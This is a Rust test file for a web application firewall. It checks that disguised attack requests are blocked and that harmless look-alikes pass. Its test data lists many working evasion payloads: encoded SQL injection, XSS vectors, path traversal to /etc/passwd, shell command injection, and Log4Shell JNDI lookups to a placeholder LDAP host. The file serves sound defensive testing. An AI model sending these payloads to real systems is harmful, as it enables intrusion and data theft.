//! Attacks in disguises that real backends see through, and harmless neighbours of each that must pass.

mod common;

use common::{Sent, all_managed, blocks, byte};
use honmaru_firewall::Firewall;
use serde_json::json;
use std::sync::LazyLock;

static FIREWALL: LazyLock<Firewall> = LazyLock::new(all_managed);

const MULTIPART: &str = "POST /\ncontent-type: multipart/form-data; boundary=b\n\n";
const FORM: &str = "POST /\ncontent-type: application/x-www-form-urlencoded\n\n";
const JSON: &str = "POST /\ncontent-type: application/json\n\n";
const DISPOSITION: &str = "Content-Disposition: form-data; name=";

fn multipart(body: &str) -> String {
    format!("{MULTIPART}{body}")
}

/// The rule that blocks, if one does.
fn blocked_by(request: &str) -> Option<String> {
    let verdict = Sent::parse(request).inspect(&FIREWALL);
    (verdict.decision.name() == "BLOCK").then(|| verdict.rule_inside_group.unwrap_or_default())
}

fn all_blocked(requests: &[String]) {
    let through: Vec<&String> = requests
        .iter()
        .filter(|request| blocked_by(request).is_none())
        .collect();
    assert!(through.is_empty(), "{through:#?}");
}

fn none_blocked(requests: &[String]) {
    let blocked: Vec<_> = requests
        .iter()
        .filter_map(|request| Some((request, blocked_by(request)?)))
        .collect();
    assert!(blocked.is_empty(), "{blocked:#?}");
}

#[test]
fn multipart_bodies_hide_nothing() {
    let attack = "1' OR '1'='1";
    all_blocked(&[
        multipart(&format!("--b\r\n{DISPOSITION}\"q\"\r\n\r\n{attack}\r\n--b--\r\n")),
        // Bare line feeds, which lenient parsers take.
        multipart(&format!("--b\n{DISPOSITION}\"q\"\n\n{attack}\n--b--\n")),
        // A field that is called filename is no file.
        multipart(&format!(
            "--b\r\n{DISPOSITION}\"filename\"\r\n\r\n{attack}\r\n--b--\r\n"
        )),
        multipart(&format!(
            "--b\r\nX-Note: filename=x\r\n{DISPOSITION}\"q\"\r\n\r\n{attack}\r\n--b--\r\n"
        )),
        // What looks like the end in the middle of a line is none.
        multipart(&format!(
            "--b\r\n{DISPOSITION}\"q\"\r\n\r\nx--b-- {attack}\r\n--b--\r\n"
        )),
        multipart(&format!(
            "--b\r\n{DISPOSITION}\"q\"\r\n\r\nx--b\r\n\r\n{attack}\r\n--b--\r\n"
        )),
        // Nor is a longer boundary.
        multipart(&format!(
            "--b\r\n{DISPOSITION}\"q\"\r\n\r\nx\r\n--bc {attack}\r\n\r\ny\r\n--b--\r\n"
        )),
        // The last boundary is missing.
        multipart(&format!("--b\r\n{DISPOSITION}\"q\"\r\n\r\n{attack}")),
        // Two boundaries: nobody knows which one counts.
        format!(
            "POST /\ncontent-type: multipart/form-data; boundary=a; boundary=b\n\n--b\r\n{DISPOSITION}\"q\"\r\n\r\n{attack}\r\n--b--\r\n"
        ),
        // The name of a file, and of a field.
        multipart(&format!(
            "--b\r\n{DISPOSITION}\"f\"; filename=\"../../../etc/passwd\"\r\n\r\nx\r\n--b--\r\n"
        )),
        multipart(&format!(
            "--b\r\n{DISPOSITION}\"<script>alert(1)</script>\"\r\n\r\nx\r\n--b--\r\n"
        )),
        // A file without a name is a field to many.
        multipart(&format!(
            "--b\r\n{DISPOSITION}\"q\"; filename=\"\"\r\n\r\n{attack}\r\n--b--\r\n"
        )),
    ]);
    none_blocked(&[
        multipart(&format!(
            "--b\r\n{DISPOSITION}\"a\"\r\n\r\nx--b is fine -- really\r\n--b--\r\n"
        )),
        multipart(&format!(
            "--b\r\n{DISPOSITION}\"f\"; filename=\"notes (1).txt\"\r\nContent-Type: text/plain\r\n\r\nSELECT * FROM users; -- ' or 1=1\r\n--b--\r\n"
        )),
        multipart(&format!(
            "--b\r\n{DISPOSITION}\"f\"; filename=\"\"\r\nContent-Type: application/octet-stream\r\n\r\n\r\n--b--\r\n"
        )),
        multipart(&format!(
            "--b\r\n{DISPOSITION}\"user[address][zip code]\"\r\n\r\n01310-100\r\n--b--\r\n"
        )),
    ]);
}

#[test]
fn names_of_arguments_hide_nothing() {
    all_blocked(&[
        "GET /?%3Cscript%3Ealert(1)%3C/script%3E=1".to_owned(),
        "GET /?1'%20OR%20'1'%3D'1=x".to_owned(),
        format!("{FORM}1'+OR+'1'%3D'1=x"),
    ]);
    none_blocked(&[
        "GET /?filter%5Bprice%5D%5Bgte%5D=10&a.b=1&c-d=2&utm_source=x".to_owned(),
        "GET /?user%20name=Jane%20O'Hara".to_owned(),
    ]);
}

#[test]
fn a_single_argument_is_found_under_its_encoded_name() {
    let statement = || {
        byte(
            json!({"SingleQueryArgument": {"Name": "user"}}),
            "CONTAINS",
            "root",
            &[],
        )
    };
    assert!(blocks(statement(), "GET /?a=1&USER=root"));
    assert!(blocks(statement(), "GET /?%75ser=root"));
    assert!(!blocks(statement(), "GET /?users=root"));
}

#[test]
fn encodings_hide_nothing() {
    all_blocked(&[
        "GET /?id=1%27%20%4fR%20%271%27%3D%271".to_owned(),
        "GET /?id=1%2527%2520OR%2520%25271%2527%253D%25271".to_owned(),
        "GET /?id=%u0031%u0027%20OR%20%u0027a%u0027=%u0027a".to_owned(),
        "GET /?id=1'%0aor%0a'1'='1".to_owned(),
        "GET /?id=1'%09or%0b'1'='1".to_owned(),
        "GET /?id=1'%a0or%a0'1'='1".to_owned(),
        "GET /?id=1'/**/oR/**/'1'='1".to_owned(),
        "GET /?id=1/*!50000union*//*!50000select*/user,2,3".to_owned(),
        "GET /?id=1%20uNiOn%20aLl%20sElEcT%20null,null--".to_owned(),
        "GET /?id=-1%20union(select(1),(2))".to_owned(),
        "GET /?id=1'||'1'='1".to_owned(),
        "GET /?id=1'%26%261='1".to_owned(),
        "GET /?id=1'%00%20or%20'1'='1".to_owned(),
        "GET /?id='%20or%20''='".to_owned(),
        "GET /?id=\"%20or%20\"\"=\"".to_owned(),
        "GET /?id=1)%20or%20(1=1".to_owned(),
        "GET /?id=1%20or%20true--".to_owned(),
        "GET /?id=1%20and%20sleep(5)".to_owned(),
        "GET /?id=1;select%20pg_sleep(5)--".to_owned(),
        "GET /?id=1;waitfor%20delay%20'0:0:5'--".to_owned(),
        "GET /?id=(select*from(select(sleep(5)))a)".to_owned(),
        "GET /?id=1%20or%20'{%22b%22:2}'::jsonb%20%3C@%20'{%22a%22:1,%20%22b%22:2}'::jsonb%20--".to_owned(),
        format!("{FORM}user=admin%27--&password=x"),
        format!("{FORM}user=%61dmin%27%20%6Fr%20%271%27%3D%271&password=x"),
        format!("{JSON}{{\"id\": \"1\\u0027 OR \\u00271\\u0027=\\u00271\"}}"),
        format!("{JSON}{{\"deep\": [{{\"id\": [\"1' OR '1'='1\"]}}]}}"),
        format!("{JSON}{{\"1' OR '1'='1\": 1}}"),
        format!("{JSON}{{\"a\": 1, \"a\": \"1' OR '1'='1\"}}"),
        format!("{JSON}{{\"a\": \"1' OR '1'='1\""),
        // Whatever the client claims, the bytes decide.
        "POST /\ncontent-type: application/octet-stream\n\n{\"id\": \"1' OR '1'='1\"}".to_owned(),
        "POST /\ncontent-type: image/png\n\nid=1' OR '1'='1".to_owned(),
        "POST /\n\nid=1' UNION SELECT user,password FROM users--".to_owned(),
        "GET /?q=%3CsCrIpT%3Ealert(1)%3C/sCrIpT%3E".to_owned(),
        "GET /?q=%3Cimg%20src=x%20onerror%0a=alert(1)%3E".to_owned(),
        "GET /?q=%3Csvg%2Fonload%3Dalert%601%60%3E".to_owned(),
        "GET /?q=%3Ca%20href=%22java%26%23115;cript:alert(1)%22%3E".to_owned(),
        "GET /?q=%3Ca%20href=%22jav%26Tab;ascript:alert(1)%22%3Ex".to_owned(),
        "GET /?q=%3Cscr%00ipt%3Ealert(1)%3C/scr%00ipt%3E".to_owned(),
        "GET /?q=%253Cscript%253Ealert(1)".to_owned(),
        "GET /?q=\"%20autofocus%20onfocus=alert(1)%20x=\"".to_owned(),
        "GET /?q=%3Cdetails%20open%20ontoggle=alert(1)%3E".to_owned(),
        "GET /?q=%3Ciframe%20srcdoc=%22%3Cscript%3E%22%3E".to_owned(),
        "GET /?f=....//....//....//etc/passwd".to_owned(),
        "GET /?f=..%5c..%5c..%5cwindows%5cwin.ini".to_owned(),
        "GET /?f=..%c0%af..%c0%afetc/passwd".to_owned(),
        "GET /?f=%2e%2e%2f%2e%2e%2fetc%2fpasswd%00.png".to_owned(),
        "GET /?f=/etc/./passwd".to_owned(),
        "GET /?f=/etc//passwd".to_owned(),
        "GET /%2e%2e/%2e%2e/etc/passwd".to_owned(),
        "GET /?x=;%63at%20/etc/passwd".to_owned(),
        "GET /?x=%24%28id%29".to_owned(),
        "GET /?x=%60id%60".to_owned(),
        "GET /?x=;c''at%20/etc/hostname".to_owned(),
        "GET /?x=a%0acat%20/etc/hostname".to_owned(),
        "GET /\nx-a: ${${::-j}${::-n}${::-d}${::-i}:ldap://e.example/a}".to_owned(),
        "GET /\nuser-agent: ${jndi:${lower:l}${lower:d}ap://e.example/a}".to_owned(),
        "GET /\ncookie: id=1'%20OR%20'1'='1; a=b".to_owned(),
        "GET /\ncookie: a=b;id=1' UNION SELECT 1,2 FROM users--".to_owned(),
    ]);
}

#[test]
fn harmless_requests_pass() {
    none_blocked(&[
        "GET /?q=what's%20the%20difference%20between%20'and'%20and%20'or'".to_owned(),
        "GET /?q=Tom%20%26%20Jerry%20--%20the%20movie".to_owned(),
        "GET /?q=1%2B1%3D2".to_owned(),
        "GET /?q=price%20%3C%20100%20and%20rating%20%3E%204".to_owned(),
        "GET /?q=i%20%3C3%20you".to_owned(),
        "GET /?q=order%20by%20phone%20or%20select%20from%20menu".to_owned(),
        "GET /?email=o'reilly@example.com".to_owned(),
        "GET /?next=%2Faccount%2Fsettings%3Ftab%3Dsecurity%23keys".to_owned(),
        "GET /?date=2024-02-30T10%3A00%3A00%2B02%3A00&tz=Europe/Berlin".to_owned(),
        "GET /?ids=1,2,3&sort=-created_at&page[size]=20".to_owned(),
        "GET /?path=/docs/etc/readme".to_owned(),
        "GET /?x=10;20;30".to_owned(),
        "GET /?t=a%0Ab%0Ac".to_owned(),
        "GET /a/b/../c?x=1".replace("b/../", ""),
        format!("{FORM}bio=I'm+a+DBA%3B+I+drop+by+tables+%26+select+wine.%0AHobbies%3A+cats+%26+dogs"),
        format!("{FORM}password=%27%22%3C%3E%26%23x41-Zz9%21"),
        format!("{JSON}{{\"text\": \"He said: \\\"it's 5 > 3 and 2 < 4\\\"; OK?\", \"html\": \"a &amp; b\"}}"),
        format!("{JSON}{{\"cmd\": \"please restart; then call me\", \"regex\": \"^a|b$\"}}"),
        format!("{JSON}{{\"md\": \"# Title\\n\\n- one\\n- two -- three\\n\\n`code`\\n\"}}"),
        "POST /\ncontent-type: text/plain\n\nDear team,\nit's done; see /etc for details -- or ask.\nBest, A."
            .to_owned(),
        "GET /\nreferer: https://www.google.com/search?q=union+select+tutorial".to_owned(),
        "GET /\ncookie: prefs={\"a\":1,\"b\":\"x y\"}; _ga=GA1.1.1; s=abc==".to_owned(),
    ]);
}
